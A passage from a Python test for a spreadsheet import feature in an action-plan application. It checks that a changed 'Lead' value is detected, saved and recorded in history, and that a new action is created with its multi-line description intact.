    changed = {**same, "Lead": "Head of Early Help\r\n"}
    rows = spreadsheets.read_rows(name, as_bytes([changed, new]))
    checked = spreadsheets.preview_import(world.plan, rows)
    assert [c.label for c in checked.rows[0].changes] == ["Lead"]
    spreadsheets.import_save(
        plan=world.plan, rows=rows, pins=checked.pins, recorded_by=users["manager"]
    )
    action.refresh_from_db()
    assert action.lead == "Head of Early Help"
    assert action.description == "Run the neglect audit.\nReport to the board."
    latest = history_with_changes(action.history.all())[0]
    assert [c.field for c in latest.changes] == ["Lead"]
    created = Action.objects.get(plan=world.plan, ref="1b")
    assert (created.description, created.lead) == ("Train staff.\nCheck uptake.", "Head of Service")
